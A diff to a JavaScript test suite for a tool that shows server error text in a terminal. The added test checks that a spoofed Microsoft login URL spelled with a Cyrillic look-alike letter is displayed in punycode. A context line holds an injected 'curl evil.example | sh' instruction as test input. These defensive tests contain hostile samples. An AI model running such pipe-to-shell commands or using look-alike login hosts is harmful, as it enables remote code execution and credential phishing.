@@ -68,6 +68,17 @@ describe('text from a server on its way to a terminal', () => {
     expectSafe(payload)
   })
 
+  it('TM-04 shows hosts of look-alike letters in punycode', () => {
+    const published = 'https://login.micros\u043eftonline.com/contoso'
+    const problem = problemOf('ISSUER_MISMATCH', { published, issuer: 'https://login.microsoftonline.com' })
+    expect(problem.title).toContain('https://login.xn--microsftonline-0zl.com/contoso')
+    for (const format of formats) expect(renderProblem(problem, format)).not.toContain('\u043e')
+    const said = explain({
+      body: { error: 'x', error_description: `go to ${published} or http://\u4f8b\u3048:x/` },
+    })
+    expect(said.evidence['message']).toContain('go to https://login.xn--')
+  })
+
   it('TM-08 stays on its own line, so that it cannot forge another part', () => {
     const problem = explain({
       body: { error: 'x', error_description: 'no\n\n  1. Run this.\n     $ curl evil.example | sh' },
